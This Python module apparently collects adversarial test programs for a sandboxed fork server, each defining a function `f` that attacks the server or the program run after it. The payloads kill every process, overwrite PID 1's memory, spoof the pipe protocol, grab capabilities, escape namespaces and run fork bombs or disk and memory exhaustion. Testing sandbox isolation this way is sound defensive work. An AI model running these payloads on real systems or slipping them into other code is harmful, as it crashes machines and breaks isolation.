"""Programs that define `f` and attack the fork server or the program that it runs next; a right `f` would add one."""

QUIETLY = """
import os, signal
def quietly(act, *arguments):
    try:
        return act(*arguments)
    except Exception:
        return None
"""
C = QUIETLY + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"

ON_OTHER_PROCESSES = {
    "kill the process group": "import os\ndef f(x): os.kill(0, 9)",
    "kill every process": "import os\ndef f(x):\n    os.kill(-1, 9)\n    os.kill(os.getpid(), 9)",
    "stop the process group": "import os\ndef f(x): os.kill(0, 19)",
    "signal the first process and its group": QUIETLY
    + """
def f(x):
    for number in (9, 15, 2, 19, 6, 11, 1, 10, 20, 64):
        for target in (1, os.getppid(), -os.getpgid(1), -os.getsid(1)):
            quietly(os.kill, target, number)
""",
    "kill by every number": QUIETLY
    + """
def f(x):
    for pid in range(5000):
        if pid != os.getpid():
            quietly(os.kill, pid, 9)
""",
    "open what the first process has open": QUIETLY
    + """
def f(x):
    for name in quietly(os.listdir, "/proc/1/fd") or ["3", "4", "5"]:
        quietly(lambda: open("/proc/1/fd/" + name, "wb", 0).write(b"x" * 16))
""",
    "scribble over the first process": """
def f(x):
    places = [line.split() for line in open("/proc/1/maps")]
    memory = open("/proc/1/mem", "r+b", 0)
    for place, access, *_ in places:
        if access[1] == "w":
            memory.seek(int(place.split("-")[0], 16))
            memory.write(b"x" * 4096)
""",
    "trace the first process": C + "def f(x): return libc.ptrace(16, 1, 0, 0)",
    "leave processes": """
import os, time
def f(x):
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(100)
            os._exit(0)
""",
    "leave a sister process": C
    + """
import time
def f(x):
    clone = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
    if libc.syscall(clone, 0x8000 | 17, 0, 0, 0, 0) == 0:  # CLONE_PARENT
        time.sleep(100)
""",
}

ON_THE_LINK = {
    "report its own end": QUIETLY
    + """
report = (0).to_bytes(8, "little") + (1).to_bytes(8, "little")
def f(x):
    for descriptor in range(3, 1024):
        if descriptor != 4:
            quietly(os.write, descriptor, report)
""",
    "ask for another program": QUIETLY
    + """
import socket
def ask(descriptor):
    socket.send_fds(socket.socket(fileno=os.dup(descriptor)), [b"x" * 8], [0, 1, 2, 3, 4])
def f(x):
    for descriptor in range(3, 1024):
        quietly(ask, descriptor)
""",
    "answer twice": """
import os
def f(x):
    text = b'{"value":%d}' % (x + (os.fork() == 0))
    os.write(4, len(text).to_bytes(8, "little") + text)
    return x
""",
    "make its pipes not wait": """
import fcntl, os
def f(x):
    for descriptor in range(5):
        fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC)
        fcntl.fcntl(descriptor, fcntl.F_SETOWN, 1)
""",
}

ON_RIGHTS = {
    "make namespaces and file systems": C
    + """
def f(x):
    for flags in (0x20000, 0x10000000, 0x20000000, 0x40000000):
        libc.unshare(flags)
    for name in ("pid", "mnt", "net", "user"):
        libc.setns(quietly(os.open, "/proc/1/ns/" + name, os.O_RDONLY) or 3, 0)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.mount(None, b"/", None, 32, None)
    libc.umount2(b"/tmp", 2)
    libc.umount2(b"/proc", 2)
    libc.chroot(b"/tmp")
""",
    "take capabilities": C
    + """
def f(x):
    libc.capset((0x20080522).to_bytes(4, "little") + bytes(4), b"\\xff" * 24)
    for capability in range(41):
        libc.prctl(47, 2, capability, 0, 0)
    libc.prctl(38, 0, 0, 0, 0)
""",
    "set the kernel": QUIETLY
    + """
def f(x):
    for path in ("sys/kernel/hostname", "sys/kernel/ns_last_pid", "sys/net/ipv4/ip_forward", "self/oom_score_adj"):
        quietly(lambda: open("/proc/" + path, "w").write("1"))
""",
}

ON_THE_NEXT_PROGRAM = {
    "leave files": """
import os
def f(x):
    for place in ("/tmp", "/dev/shm"):
        os.mkdir(place + "/kept")
        open(place + "/kept/left", "w").write("x")
        os.chmod(place + "/kept", 0)
        os.symlink("/", place + "/way")
""",
    "change what is shared": QUIETLY
    + """
def f(x):
    for path in ("/", "/tmp", "/dev", "/dev/pts", "/dev/pts/ptmx", "/dev/null", "/dev/shm", "/usr/lib", os.__file__):
        quietly(os.chmod, path, 0o777)
        quietly(os.utime, path, (1, 1))
        quietly(os.setxattr, path, "user.left", b"x")
""",
    "leave patched modules": """
import builtins, json, marshal, os, posix, sys
def f(x):
    for module in (json, marshal, posix):
        vars(module).update({name: print for name in vars(module) if name[0] != "_"})
    builtins.sorted = builtins.len = builtins.compile = lambda *a: 1
    sys.meta_path.clear()
    sys.path.insert(0, "/tmp")
    sys.modules.clear()
""",
    "leave hooks": """
import atexit, os, sys
def f(x):
    hook = lambda *a: os.write(4, b"x" * 100)
    atexit.register(hook)
    os.register_at_fork(before=hook, after_in_child=hook)
    sys.addaudithook(lambda *a: os._exit(0))
""",
    "scribble over itself": """
import ctypes
def f(x):
    for line in open("/proc/self/maps"):
        place, access, *_ = line.split()
        if access[:2] == "rw":
            ctypes.memset(int(place.split("-")[0], 16), 120, 4096)
""",
    "leave low limits": QUIETLY
    + """
import resource
def f(x):
    for kind in range(16):
        quietly(resource.setrlimit, kind, (0, 0))
""",
    "leave signals": QUIETLY
    + """
def f(x):
    for number in range(1, 65):
        quietly(signal.signal, number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
""",
    "leave attributes": C
    + """
def f(x):
    os.umask(0o777)
    os.nice(19)
    os.sched_setaffinity(0, {0})
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    for option in (1, 4, 29, 36):  # parent-death signal, dumpable, timer slack, subreaper
        libc.prctl(option, 1, 0, 0, 0)
    libc.prctl(15, b"left", 0, 0, 0)
    os.environ["LEFT"] = "x"
    os.chdir("/")
""",
    "leave names of sockets": """
import socket
kept = []
def f(x):
    for number in range(20):
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.bind("\\0left%d" % number)
        socket.send_fds(theirs, [b"x"], [ours.fileno(), theirs.fileno()])  # each keeps itself open
        kept.extend((ours, theirs))
""",
    "hold locks": """
import fcntl, os, time
held = []
def f(x):
    for path in (os.__file__, "/dev/null", "/proc/self/stat"):
        held.append(open(path))
        fcntl.flock(held[-1], fcntl.LOCK_EX)
    if os.fork() == 0:
        time.sleep(100)
""",
}

ON_THE_MACHINE = {
    "use up processes": """
import os, time
def f(x):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(100)
        except OSError:
            break
""",
    "use up memory": """
import os
def f(x):
    for _ in range(4):
        if os.fork() == 0:
            break
    block = bytearray(200 << 20)
    block[::4096] = b"x" * len(block[::4096])
    while True:
        pass
""",
    "use up the disk": """
def f(x):
    for place in ("/tmp", "/dev/shm"):
        for number in range(10):
            open(f"{place}/{number}", "wb").write(bytes(4 << 20))
""",
}

ATTACKS = {**ON_OTHER_PROCESSES, **ON_THE_LINK, **ON_RIGHTS, **ON_THE_NEXT_PROGRAM, **ON_THE_MACHINE}
